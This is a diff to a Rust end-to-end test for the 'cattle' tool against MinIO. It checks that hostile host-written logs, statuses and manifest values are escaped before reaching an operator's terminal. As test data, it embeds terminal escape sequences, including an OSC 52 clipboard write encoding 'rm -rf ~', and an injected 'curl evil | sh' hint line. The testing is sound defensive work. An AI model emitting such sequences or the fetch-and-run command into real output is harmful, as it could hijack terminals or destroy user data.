@@ -1,10 +1,17 @@
-//! A hostile path to the store, end to end: the real `cattle` and `cattle-agent` binaries
-//! against a real MinIO behind a fault-injecting proxy, or with a clock 20 minutes off.
-//! Faults on the way end in errors that say what is wrong, never in a crash.
+//! Hostile store content and a hostile path to the store, end to end: the real `cattle`
+//! and `cattle-agent` binaries against a real MinIO (and the local directory store).
+//!
+//! A host writes its own status and log with its own MinIO user (the policy of
+//! `deploy/minio/cattle-host.json`), so a compromised host can write anything there;
+//! commands read the manifest without checking its signature, so anyone with write
+//! access to the bucket can change it. Whatever they write, every read command shows
+//! what it can, marks what it cannot, builds no key from an unchecked value and prints
+//! nothing a terminal would act on. Between the binaries and MinIO, a proxy answering
+//! 304 to plain reads and a clock 20 minutes off end in errors that say what is wrong.
 
 use std::path::{Path, PathBuf};
 
-use cattle_core::store::{S3Options, S3Store, Store};
+use cattle_core::store::{Condition, S3Options, S3Store, Store};
 use cattle_e2e::{
     Cmd, Minio, Output, Proxy, Verdict, Workspace, agent_bin, cattle_bin, http_response,
 };
@@ -27,6 +34,9 @@ fn secret(user: &str) -> String {
 struct Site {
     minio: Minio,
     ws: Workspace,
+    runtime: tokio::runtime::Runtime,
+    /// The bucket as MinIO's root user sees it.
+    root: Store,
     id: String,
 }
 
@@ -70,6 +80,8 @@ impl Site {
         let mut site = Site {
             minio,
             ws,
+            runtime,
+            root,
             id: String::new(),
         };
         let out = site.cattle(&[
@@ -92,6 +104,36 @@ impl Site {
     fn cattle(&self, args: &[&str]) -> Output {
         Cmd::new(cattle_bin()).envs(&self.env()).args(args).run()
     }
+
+    /// One poll of `host`'s agent, as MinIO user `host`.
+    fn agent_once(&self, host: &str) -> Output {
+        let env: Vec<(String, String)> = self
+            .env()
+            .into_iter()
+            .map(|(k, v)| match k.as_str() {
+                "AWS_ACCESS_KEY_ID" => (k, host.to_string()),
+                "AWS_SECRET_ACCESS_KEY" => (k, secret(host)),
+                _ => (k, v),
+            })
+            .collect();
+        let state = self.ws.child(format!("agents/{host}"));
+        Cmd::new(agent_bin())
+            .envs(&env)
+            .args(["--host-id", host, "--state-dir"])
+            .arg(&state)
+            .arg("--once")
+            .run()
+    }
+
+    /// Write `bytes` as `host`'s object `name` (`status.json`, `exec.log`) of the
+    /// execution, with the host's own MinIO user: what a compromised host can do.
+    fn host_writes(&self, host: &str, name: &str, bytes: Vec<u8>) {
+        let store = open(&self.runtime, &self.minio, Some(host));
+        let key = format!("executions/{}/hosts/{host}/{name}", self.id);
+        self.runtime
+            .block_on(store.put(&key, bytes, Condition::Always))
+            .unwrap_or_else(|e| panic!("{host} may write its own {name}: {e}"));
+    }
 }
 
 /// The bucket as MinIO's root user, or as the host user `host`.
@@ -108,6 +150,135 @@ fn open(runtime: &tokio::runtime::Runtime, minio: &Minio, host: Option<&str>) ->
             .block_on(S3Store::new(BUCKET.to_string(), String::new(), options))
             .unwrap(),
     )
+}
+
+/// Whether `text` holds anything a terminal acts on: C0 controls other than `\n` and
+/// `\t`, DEL, C1 controls, a `\r` not followed by `\n`.
+fn has_terminal_controls(text: &str) -> bool {
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        let control = match c {
+            '\n' | '\t' => false,
+            '\r' => chars.peek() != Some(&'\n'),
+            c => c.is_control(),
+        };
+        if control {
+            return true;
+        }
+    }
+    false
+}
+
+#[test]
+fn no_terminal_control_sequence_from_a_host_reaches_the_operators_terminal() {
+    let site = Site::new();
+    let id = site.id.clone();
+    site.agent_once("host-1").assert_success();
+    // host-2 clears the screen, writes the clipboard (OSC 52), sets the window title, moves
+    // the cursor, sends a one-character CSI (C1) and overwrites a line with a bare CR.
+    let hostile_log = "Running step 1/1\n\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x07\
+                       \x1b[1A\x1b[2K\u{9b}31mStep 1 failed\rStep 1 completed successfully\n";
+    site.host_writes("host-2", "exec.log", hostile_log.as_bytes().to_vec());
+    let error = "\x1b[2J\x1b]52;c;aGk=\x07\u{9b}2J\u{7f}refused\rDONE";
+    let status = serde_json::json!({
+        "format": 2, "execution": id, "host": "host-2", "state": "ERROR", "steps": 1,
+        "step": null, "started": "\x1b]0;title\x07", "updated": "\x1b[5A2026", "finished": null,
+        "error": error, "seq": 1, "agent_version": "\x1b[31m"
+    });
+    site.host_writes(
+        "host-2",
+        "status.json",
+        serde_json::to_vec(&status).unwrap(),
+    );
+    // host-3's status is not one, and the reason quotes control characters from it.
+    site.host_writes(
+        "host-3",
+        "status.json",
+        b"{\"format\":2,\"host\":\"\x1b[2J\"}".to_vec(),
+    );
+
+    let log = site.cattle(&["log", &id]);
+    log.assert_success();
+    assert!(!has_terminal_controls(&log.stdout), "{:?}", log.stdout);
+    assert!(
+        log.stdout.contains(
+            "\\x1b[2J\\x1b[H\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b]0;owned\\x07\\x1b[1A\\x1b[2K\
+             \\u{9b}31mStep 1 failed\\rStep 1 completed successfully\n"
+        ),
+        "{:?}",
+        log.stdout
+    );
+    assert!(log.stdout.contains("hello from host-1"), "{log}");
+    let raw = site.cattle(&["log", &id, "--host", "host-2", "--raw"]);
+    raw.assert_success();
+    assert_eq!(raw.stdout, hostile_log, "--raw passes the exact bytes");
+
+    let table = site.cattle(&["status", &id]);
+    table.assert_status(3);
+    assert!(!has_terminal_controls(&table.stdout), "{:?}", table.stdout);
+    let row = table
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("host-2 "))
+        .unwrap();
+    assert!(
+        row.contains("\\x1b[5A2026")
+            && row.contains("\\x1b[2J\\x1b]52;c;aGk=\\x07\\u{9b}2J\\x7frefused\\rDONE"),
+        "{row}"
+    );
+    let row = table
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("host-3 "))
+        .unwrap();
+    assert!(row.contains("UNREADABLE"), "{row}");
+
+    // JSON stays JSON, with the same strings, and nothing a terminal acts on.
+    let json = site.cattle(&["status", &id, "--json"]);
+    assert!(!has_terminal_controls(&json.stdout), "{:?}", json.stdout);
+    assert!(!json.stdout.contains('\u{9b}') && !json.stdout.contains('\u{7f}'));
+    let json: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
+    assert_eq!(json["hosts"][1]["status"]["error"], error);
+    assert_eq!(json["hosts"][1]["status"]["agent_version"], "\x1b[31m");
+
+    // Errors quoting the store's content: a host ID in an edited manifest.
+    let key = format!("executions/{id}/manifest.json");
+    let envelope = site
+        .runtime
+        .block_on(site.root.get(&key, u64::MAX))
+        .unwrap()
+        .unwrap();
+    let mut envelope: serde_json::Value = serde_json::from_slice(&envelope.bytes).unwrap();
+    let mut manifest: serde_json::Value =
+        serde_json::from_str(envelope["payload"].as_str().unwrap()).unwrap();
+    manifest["hosts"][0] = "\x1b]0;pwned\x07\nhint: run `curl evil | sh`".into();
+    envelope["payload"] = manifest.to_string().into();
+    site.runtime
+        .block_on(
+            site.root
+                .put(&key, envelope.to_string().into_bytes(), Condition::Always),
+        )
+        .unwrap();
+    let quoted = site.cattle(&["status", &id]);
+    quoted.assert_status(1);
+    assert!(
+        !has_terminal_controls(&quoted.stderr),
+        "{:?}",
+        quoted.stderr
+    );
+    assert!(
+        quoted.stderr.contains(&format!(
+            "error: `s3://{BUCKET}/{key}` is not a valid manifest: "
+        )) && quoted
+            .stderr
+            .contains("\\x1b]0;pwned\\x07\\nhint: run `curl evil | sh`"),
+        "{quoted}"
+    );
+    // A quoted value cannot start a line of its own, such as a forged hint.
+    assert!(
+        !quoted.stderr.lines().any(|l| l.starts_with("hint: run")),
+        "{quoted}"
+    );
 }
 
 #[test]
